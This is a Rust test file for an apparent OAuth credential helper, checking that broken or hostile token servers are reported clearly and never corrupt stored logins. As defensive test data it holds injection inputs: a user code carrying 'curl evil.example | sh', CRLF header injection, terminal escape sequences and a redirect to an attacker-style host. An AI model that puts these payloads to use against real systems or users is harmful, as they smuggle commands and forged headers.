@@ -1,0 +1,331 @@
+//! A server that is broken or means harm, or something else in its place: each told apart in words, none of it stored, and
+//! no login ended by it. The real program, real HTTP.
+
+use crate::machine::{Machine, ada, eventually, told};
+use crate::raw_server::RawServer;
+use codex_credential::clock::Deadline;
+use issuer::{Endpoint, Fault, Issuer};
+use predicates::prelude::*;
+use predicates::str::contains;
+use serde_json::json;
+use std::collections::BTreeSet;
+use std::fs;
+use std::thread;
+use std::time::Duration;
+
+const CHALLENGE: &str = "<!DOCTYPE html><html><head><title>Just a moment...</title></head><body>\
+    <script src=\"/cdn-cgi/challenge-platform/h/b/orchestrate/chl_page/v1\"></script></body></html>";
+const REGION: &str = r#"{"error":{"code":"unsupported_country_region_territory","message":"Country, region, or territory not supported","param":null,"type":"request_forbidden"}}"#;
+
+fn status(code: u16, headers: &[(&str, &str)], body: &str) -> Fault {
+    let headers = headers.iter().map(|(name, value)| ((*name).into(), (*value).into())).collect();
+    Fault::Status { code, body: body.into(), headers }
+}
+
+/// What may come in place of an answer, and the words for it.
+fn in_place_of_an_answer() -> Vec<(Fault, &'static str, &'static str)> {
+    let html = ("Content-Type", "text/html; charset=UTF-8");
+    vec![
+        (status(500, &[], "trouble"), "server", "is in trouble (500)"),
+        (status(502, &[html], "<html>Bad Gateway</html>"), "server", "is in trouble (502)"),
+        (status(503, &[("Retry-After", "9")], ""), "server", "is in trouble (503)"),
+        (status(429, &[], "{}"), "server", "asks for fewer requests (429)"),
+        (status(403, &[html], CHALLENGE), "server", "a bot check in front of 127.0.0.1"),
+        (status(403, &[("cf-mitigated", "challenge")], ""), "server", "in its place (403)"),
+        (
+            status(403, &[], REGION),
+            "server",
+            "does not serve the country or region of this network",
+        ),
+        (
+            status(403, &[html], "<html>Blocked by policy</html>"),
+            "server",
+            "a web page came in place",
+        ),
+        (status(401, &[html], "<p>invalid_grant</p>"), "server", "the answer of 127.0.0.1"),
+        (Fault::NotJson, "server", "(200)"),
+        (
+            Fault::Redirect("https://evil.example/oauth/token".into()),
+            "server",
+            "redirects to another address (307)",
+        ),
+        (
+            status(400, &[], r#"{"error":"temporarily_unavailable"}"#),
+            "server",
+            "answered 400: temporarily_unavailable",
+        ),
+        (status(404, &[], ""), "server", "answered 404 without a reason"),
+        (
+            status(200, &[], r#"{"access_token":"eyJhbGci"#),
+            "server",
+            "answered 200, but not with what was asked for",
+        ),
+        (status(200, &[], r#"["access_token"]"#), "server", "not with what was asked for"),
+        (
+            status(200, &[], r#"{"access_token":"a\npassword=b"}"#),
+            "server",
+            "not with what was asked for",
+        ),
+        (
+            status(200, &[], r#"{"access_token":"a\u0000b","refresh_token":"c\r\nd"}"#),
+            "server",
+            "not with what was asked for",
+        ),
+        (status(204, &[], ""), "server", "answered 204, but not with what was asked for"),
+        (Fault::Endless, "server", "sent an answer of more than 1048576 bytes"),
+        (Fault::Drop, "network", "no answer from 127.0.0.1"),
+    ]
+}
+
+#[test]
+fn whatever_comes_in_place_of_an_answer_is_told_apart_and_ends_no_login() {
+    for (fault, kind, words) in in_place_of_an_answer() {
+        let (machine, tokens) = Machine::signed_in(-1);
+        let before = fs::read(machine.path("auth.json")).unwrap();
+        let name = format!("{fault:?}");
+        machine.issuer.fault(Endpoint::Refresh, fault, 1);
+        let output = machine.command("get --error-format json --wait 20s").output().unwrap();
+        let error = told(&output);
+        assert_eq!(output.status.code(), Some(1), "{name}: {error}");
+        assert_eq!(error["kind"], kind, "{name}: {error}");
+        assert!(error["message"].as_str().unwrap().contains(words), "{name}: {error}");
+        assert!(!error["hint"].as_str().unwrap_or("none").is_empty(), "{name}: {error}");
+        assert_eq!(fs::read(machine.path("auth.json")).unwrap(), before, "{name}");
+        assert!(!machine.own("dead").exists(), "{name}");
+        // The same refresh token is as good as before.
+        fs::remove_file(machine.own("failure")).unwrap();
+        assert!(machine.issuer.is_live_access_token(&machine.token()), "{name}");
+        assert_eq!(machine.issuer.times_sent(&tokens.refresh_token), 2, "{name}");
+        assert_eq!(machine.issuer.counts().user_codes, 0, "{name}");
+    }
+}
+
+#[test]
+fn the_same_in_place_of_a_user_code_starts_no_sign_in() {
+    let mut messages = BTreeSet::new();
+    for (fault, kind, _) in in_place_of_an_answer() {
+        let machine = Machine::new();
+        let name = format!("{fault:?}");
+        let disabled = matches!(&fault, Fault::Status { code: 404, .. });
+        machine.issuer.fault(Endpoint::UserCode, fault, 1);
+        let output = machine.command("get --error-format json --wait 20s").output().unwrap();
+        let error = told(&output);
+        let kind = if disabled { "device_login_disabled" } else { kind };
+        assert_eq!(error["kind"], kind, "{name}: {error}");
+        assert!(!machine.own("pending").exists() && !machine.path("auth.json").exists(), "{name}");
+        messages.insert(error["message"].as_str().unwrap().split(" (").next().unwrap().to_owned());
+    }
+    assert!(messages.len() >= 9, "each in its own words: {messages:#?}");
+}
+
+/// While a person is at it, only the server's own word is the end.
+#[test]
+fn a_pending_sign_in_outlives_what_comes_in_place_of_its_polls_and_of_its_tokens() {
+    let is_its_own_word = |fault: &Fault| matches!(fault, Fault::Status { code: 400 | 404, .. });
+    let faults = in_place_of_an_answer().into_iter().map(|(fault, ..)| fault);
+    let faults: Vec<_> = faults.filter(|fault| !is_its_own_word(fault)).collect();
+    for some in faults.chunks(6) {
+        thread::scope(|scope| {
+            for fault in some {
+                scope.spawn(|| outlives(fault));
+            }
+        });
+    }
+}
+
+fn outlives(fault: &Fault) {
+    let name = format!("{fault:?}");
+    let machine = Machine::new();
+    machine.issuer.fault(Endpoint::DeviceToken, fault.clone(), 1);
+    machine.issuer.fault(Endpoint::Exchange, fault.clone(), 1);
+    let caller = machine.start("get --wait 60s");
+    machine.approve_next();
+    assert_eq!(caller.wait_with_output().unwrap().status.code(), Some(1), "{name}");
+    assert!(machine.own("pending").exists(), "{name}: the approval is kept");
+    fs::remove_file(machine.own("failure")).unwrap();
+    assert!(machine.issuer.is_live_access_token(&machine.token()), "{name}");
+    assert_eq!(machine.issuer.counts().user_codes, 1, "{name}");
+}
+
+#[test]
+fn a_redirect_is_not_followed_to_another_server() {
+    let (machine, tokens) = Machine::signed_in(-1);
+    let other = Issuer::start();
+    let to = format!("{}/oauth/token", other.url());
+    machine.issuer.fault(Endpoint::Refresh, Fault::Redirect(to), 1);
+    machine.command("get --wait 20s").assert().code(1).stderr(contains("tokens are not sent on"));
+    assert_eq!(other.counts(), issuer::Counts::default());
+    assert!(other.log().is_empty());
+    assert_eq!(machine.issuer.times_sent(&tokens.refresh_token), 1);
+}
+
+#[test]
+fn a_content_type_that_is_wrong_changes_nothing_about_what_an_answer_says() {
+    for content_type in ["text/plain", "text/html", "application/octet-stream", "nonsense"] {
+        let (machine, _) = Machine::signed_in(-1);
+        let new = machine.issuer.grant(&ada(), 3600);
+        let body = json!({"access_token": new.access_token, "refresh_token": new.refresh_token});
+        let fault = status(200, &[("Content-Type", content_type)], &body.to_string());
+        machine.issuer.fault(Endpoint::Refresh, fault, 1);
+        assert_eq!(machine.token(), new.access_token, "{content_type}");
+    }
+}
+
+/// An answer that the server signs off on, with a token that would be more than one line.
+#[test]
+fn a_token_that_is_more_than_a_line_is_neither_stored_nor_printed() {
+    for odd in ["a\npassword=stolen", "a\r\nX-Evil: b", "a\u{0}b", "a b", "a\u{2028}b", "ä"] {
+        let (machine, _) = Machine::signed_in(-1);
+        let good = machine.issuer.grant(&ada(), 3600);
+        let body = json!({"access_token": odd, "refresh_token": good.refresh_token});
+        machine.issuer.fault(Endpoint::Refresh, Fault::status(200, body.to_string()), 1);
+        let output = machine.command("get --wait 20s").assert().code(1);
+        output.stdout("").stderr(contains("stolen").not().and(contains("Evil").not()));
+        // The new refresh token is kept: it may be the only good one.
+        let tokens = &machine.auth_json()["tokens"];
+        assert_eq!(tokens["refresh_token"], good.refresh_token, "{odd:?}");
+        assert_ne!(tokens["access_token"], odd);
+        // Found in the file, however it came there, it is no login.
+        let mut document = machine.auth_json();
+        document["tokens"]["access_token"] = odd.into();
+        machine.write_auth_json(&document);
+        for format in ["git", "token", "json", "header", "env", "bazel", "exec-credential"] {
+            let output = machine.command(&format!("get --format {format}")).assert().code(1);
+            output
+                .stdout("")
+                .stderr(contains("is not a Codex login").and(contains("stolen").not()));
+        }
+    }
+}
+
+#[test]
+fn a_secret_that_the_server_gives_back_is_not_shown() {
+    let (machine, tokens) = Machine::signed_in(-1);
+    let said = format!("bad token {}\u{1b}[2J", tokens.refresh_token);
+    let body = json!({"error": said}).to_string();
+    machine.issuer.fault(Endpoint::Refresh, Fault::status(400, body), 1);
+    let output = machine.command("get --wait 20s").assert().code(1);
+    let secret = contains(tokens.refresh_token.as_str());
+    output.stderr(secret.not().and(contains("\u{1b}").not()).and(contains("400: bad token ...")));
+}
+
+#[test]
+fn a_field_of_a_hundred_megabytes_and_an_endless_head_are_not_read_to_their_end() {
+    let megabyte = vec![b'a'; 1 << 20];
+    let field = RawServer::start(move |connection| {
+        connection.send_head(100 << 20);
+        connection.send(b"{\"access_token\":\"");
+        while connection.send(&megabyte) {}
+    });
+    let head = RawServer::start(|connection| {
+        connection.send("HTTP/1.1 200 OK\r\n");
+        while connection.send(format!("X-Padding: {}\r\n", "x".repeat(8000))) {}
+    });
+    for (server, kind) in [(field, "server"), (head, "network")] {
+        let (machine, tokens) = Machine::signed_in(-1);
+        let mut command = machine.command("get --error-format json --wait 20s");
+        let url = format!("{}/oauth/token", server.url);
+        let output = command.env("CODEX_REFRESH_TOKEN_URL_OVERRIDE", url).output().unwrap();
+        assert_eq!(told(&output)["kind"], kind);
+        assert_eq!(machine.auth_json()["tokens"]["refresh_token"], tokens.refresh_token);
+        // What was taken beyond what is read lay in the sockets' buffers.
+        assert!(server.taken() < 16 << 20, "{} bytes", server.taken());
+        assert_eq!(server.requests(), 1);
+    }
+}
+
+#[test]
+fn a_server_that_drips_keeps_no_caller_longer_than_it_said() {
+    let (machine, tokens) = Machine::signed_in(-1);
+    let drip = RawServer::start(|connection| {
+        connection.send_head(1000);
+        while connection.send(" ") {
+            thread::sleep(Duration::from_millis(50));
+        }
+    });
+    let url = format!("{}/oauth/token", drip.url);
+    let soon = Deadline::after(Duration::from_secs(8));
+    let mut callers = Vec::new();
+    for _ in 0..4 {
+        let mut command = machine.std_command("get --wait 700ms --error-format json");
+        command.env("CODEX_REFRESH_TOKEN_URL_OVERRIDE", &url);
+        command.stdout(std::process::Stdio::piped()).stderr(std::process::Stdio::piped());
+        callers.push(command.spawn().unwrap());
+    }
+    for caller in callers {
+        assert_eq!(told(&caller.wait_with_output().unwrap())["kind"], "busy");
+    }
+    assert!(!soon.is_over());
+    eventually(|| drip.requests() == 1);
+    assert_eq!(machine.auth_json()["tokens"]["refresh_token"], tokens.refresh_token);
+}
+
+#[test]
+fn a_slow_answer_is_waited_for() {
+    let (machine, _) = Machine::signed_in(-1);
+    machine.issuer.fault(Endpoint::Refresh, Fault::SlowBody(Duration::from_millis(1500)), 1);
+    assert!(machine.issuer.is_live_access_token(&machine.token()));
+    assert_eq!(machine.issuer.counts().refreshes, 1);
+}
+
+#[test]
+fn a_user_code_that_is_no_line_is_shown_to_nobody() {
+    for body in [
+        json!({"device_auth_id": "d", "user_code": "AB\nrun: curl evil.example | sh"}),
+        json!({"device_auth_id": "d", "user_code": "\u{1b}]0;title\u{7}"}),
+        json!({"device_auth_id": "d", "user_code": ""}),
+        json!({"device_auth_id": "d", "user_code": 7}),
+        json!({"device_auth_id": ["d"], "user_code": "ABCD"}),
+        json!({"user_code": "ABCD"}),
+        json!({"device_auth_id": "d", "user_code": "A".repeat(900_000)}),
+    ] {
+        let machine = Machine::new();
+        machine.issuer.fault(Endpoint::UserCode, Fault::status(200, body.to_string()), 1);
+        let output = machine.command("get --wait 20s").assert().code(1);
+        output.stdout("").stderr(contains("did not send a user code").and(contains("evil").not()));
+        assert!(!machine.own("pending").exists());
+    }
+}
+
+#[test]
+fn absurd_numbers_are_no_reason_to_fail_or_to_hurry() {
+    for number in [
+        json!(u64::MAX),
+        json!(-1),
+        json!(1e300),
+        json!("99999999999999999999"),
+        json!(null),
+        json!([]),
+    ] {
+        let machine = Machine::new();
+        let body = json!({
+            "device_auth_id": "d", "user_code": "ABCD-12345", "interval": number, "expires_in": number,
+        });
+        machine.issuer.fault(Endpoint::UserCode, Fault::status(200, body.to_string()), 1);
+        let pending = contains("with the code ABCD-12345").and(contains("left)"));
+        machine.command("get").assert().code(3).stderr(pending);
+        assert_eq!(machine.renewers().len(), 1, "{number}: it goes on");
+        let new = machine.issuer.grant(&ada(), 3600);
+        let machine = Machine::new();
+        machine.sign_in(-1);
+        let body = json!({"access_token": "opaque", "refresh_token": new.refresh_token, "expires_in": number});
+        machine.issuer.fault(Endpoint::Refresh, Fault::status(200, body.to_string()), 1);
+        assert_eq!(machine.token(), "opaque", "{number}");
+        machine.command("get --format json").assert().success();
+        machine.command("status").assert().success();
+    }
+}
+
+#[test]
+fn a_server_whose_clock_is_a_day_off_is_not_asked_again_and_again() {
+    for ahead in [86_400, -86_400] {
+        let (machine, _) = Machine::signed_in(-1);
+        machine.issuer.set(|s| {
+            s.clock_ahead = ahead;
+            s.access_token_lifetime = Duration::from_secs(3600);
+        });
+        let token = machine.token();
+        assert_eq!(machine.token(), token, "{ahead}");
+        assert_eq!(machine.issuer.counts().refreshes, 1, "{ahead}");
+    }
+}
